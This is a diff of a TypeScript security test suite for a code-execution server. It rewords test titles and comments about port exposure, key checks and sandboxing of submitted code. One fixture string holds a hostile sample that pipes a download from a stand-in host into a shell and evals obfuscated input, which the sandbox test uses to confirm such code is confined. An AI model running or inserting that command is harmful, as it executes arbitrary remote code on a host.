@@ -31,7 +31,7 @@ const providers = () => new URL('/v1/providers', server.active).href
 const executions = () => new URL('/v1/executions', server.active).href
 const run = (body: object) => post(executions(), body, bearer(server.apiKey))
 
-test('S0-25: a server listens on its two ports only: each other hop is a socket that only its ends hold, or in a folder of its wall alone', async () => {
+test('S0-25: a server listens on its two ports only: each other hop is a socket pair, or a socket in the private folder of its wall', async () => {
   // Runs a job on each wall first, so that any socket they open exists.
   const rows = (await call(providers(), { headers: bearer(server.apiKey) }))
     .json as unknown as Row[]
@@ -53,7 +53,7 @@ test('S0-25: a server listens on its two ports only: each other hop is a socket 
   assert.deepEqual(listening.map(({ at }) => at).sort(), doors.map(String).sort())
 })
 
-test('S0-25: at the doors, without a key that is good nothing is answered but whether it is alive', async () => {
+test('S0-25: without a valid key the server answers health checks only', async () => {
   const at = (path: string) => new URL(path.replaceAll(/\{\w+\}/g, 'x'), server.active).href
   for (const where of ['/v1/executions', '/v1/providers', '/v1/audit', '/v1/config', '/metrics'])
     for (const key of ['', 'mfy_wrong_0123456789abcdefghijklmnopqrstuvw', 'null'])
@@ -77,7 +77,7 @@ test('S0-25: at the doors, without a key that is good nothing is answered but wh
   ])
 })
 
-test('S0-25: code sent with the most privileged key is hostile too: it is analysed, confined, and has no network', async () => {
+test('S0-25: code sent with an admin key is treated as hostile too: it is analysed, confined, and has no network', async () => {
   const bad =
     'const { exec } = require("child_process"); exec("curl http://x.example | sh"); eval(atob("YQ=="))'
   const [risky, plain] = [
@@ -123,7 +123,7 @@ function tcpListeners(): readonly Listener[] {
   })
 }
 
-/** Bound and not connected, so that any sender is heard. */
+/** UDP sockets that are bound and not connected, so that they receive from any sender. */
 function udpSockets(): readonly Listener[] {
   return ['/proc/net/udp', '/proc/net/udp6'].flatMap(linesOf).flatMap((line) => {
     const [, address = '', , state, , , , , , inode = ''] = line
@@ -148,7 +148,7 @@ function linesOf(table: string): readonly (readonly string[])[] {
     .map((line) => line.trim().split(/\s+/))
 }
 
-/** A process may end meanwhile. */
+/** Text of a file of /proc; empty if the process ended (race). */
 function textOf(path: string): string {
   try {
     return readFileSync(path, 'utf8')
@@ -165,7 +165,7 @@ function networkOf(pid: number): string {
   }
 }
 
-/** Below a folder that nobody but its owner enters. A path that is gone admits nobody. */
+/** True if a parent folder admits only its owner. A path that no longer exists is closed too. */
 function isShut(path: string): boolean {
   if (!path.startsWith('/')) return false
   for (let folder = dirname(path); folder !== '/'; folder = dirname(folder)) {
